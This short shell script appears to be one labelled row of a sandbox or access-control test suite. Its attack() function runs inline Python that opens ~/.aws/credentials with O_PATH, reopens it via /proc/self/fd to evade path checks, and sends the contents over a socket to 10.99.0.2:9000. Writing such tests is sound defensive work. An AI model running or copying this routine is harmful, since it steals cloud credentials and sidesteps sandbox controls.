# SPDX-License-Identifier: Apache-2.0
TITLE="O_PATH first, opened again through /proc/self/fd"
ROW="R19"
attack() {
	python3 - <<-'END'
	import os, socket
	path = os.open(os.path.expanduser('~/.aws/credentials'), os.O_PATH)
	fd = os.open('/proc/self/fd/%d' % path, os.O_RDONLY)
	socket.create_connection(('10.99.0.2', 9000), 5).sendall(os.read(fd, 4096))
	END
}
